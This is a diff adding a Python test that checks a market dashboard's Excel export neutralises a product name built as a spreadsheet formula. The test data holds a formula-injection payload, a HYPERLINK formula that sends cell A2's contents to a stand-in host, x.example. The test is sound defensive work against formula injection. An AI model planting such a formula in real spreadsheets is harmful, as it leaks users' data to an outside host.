@@ -127,3 +127,15 @@ def test_the_dashboard_page_and_its_excel(client, market, province_officer):
     assert any(row[1:] == (250000, 700000) for row in values)
     assert any(row[2] == 67 for row in values)
     assert [row[1] for row in missing.iter_rows(min_row=2, values_only=True)] == ["Chè Shan Tuyết"]
+
+
+def test_a_product_name_that_looks_like_a_formula_is_inert_in_the_excel(
+    client, market, province_officer
+):
+    name = '=HYPERLINK("http://x.example/?"&A2,"Xem")'
+    type(market).objects.filter(pk=market.pk).update(name=name)
+    client.force_login(province_officer)
+    response = client.get("/market/dashboard/export.xlsx")
+    missing = load_workbook(BytesIO(response.content)).worksheets[1]
+    cell = missing["B2"]
+    assert (cell.data_type, cell.value) == ("s", "'" + name)
